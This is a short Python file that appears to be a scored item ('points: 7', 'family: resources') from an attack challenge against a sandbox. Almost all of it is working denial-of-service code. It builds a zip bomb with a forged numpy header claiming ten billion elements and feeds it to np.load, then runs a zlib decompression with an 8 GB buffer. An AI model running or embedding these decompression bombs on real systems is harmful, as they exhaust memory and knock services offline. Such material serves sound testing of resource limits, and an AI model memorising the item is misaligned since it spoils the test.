# attack: unpacks archives that are small outside and huge inside
# family: resources
# base: solved
# points: 7
# %% last
import io, zipfile, zlib
packed = io.BytesIO()
with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("x.npy", "w", force_zip64=True) as inner:
    inner.write(b"\x93NUMPY\x01\0v\0{'descr': '|u1', 'fortran_order': False, 'shape': (10000000000,), }".ljust(128) + b"\n")
    for _ in range(64):
        inner.write(bytes(1 << 24))
try:
    np.load(io.BytesIO(packed.getvalue()))["x"]
except Exception as error:
    print(type(error))
zlib.decompress(zlib.compress(bytes(1 << 28)) , bufsize=1 << 33)
